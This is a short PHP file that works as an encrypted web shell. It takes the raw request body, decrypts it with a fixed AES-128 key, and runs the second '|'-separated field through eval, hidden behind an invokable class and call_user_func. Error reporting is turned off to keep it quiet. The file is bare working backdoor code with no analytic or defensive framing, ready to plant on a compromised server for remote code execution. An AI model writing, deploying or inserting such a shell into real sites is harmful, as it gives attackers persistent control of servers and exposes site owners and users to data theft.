<?php
@error_reporting(0);
session_start();
$key = "0123456789abcdef";
$_SESSION['k'] = $key;
$post = file_get_contents("php://input");
$post = openssl_decrypt($post, "AES128", $key);
$arr = explode('|', $post);
$params = $arr[1];
class C
{
    public function __invoke($p)
    {
        eval($p . "");
    }
}
@call_user_func(new C(), $params);
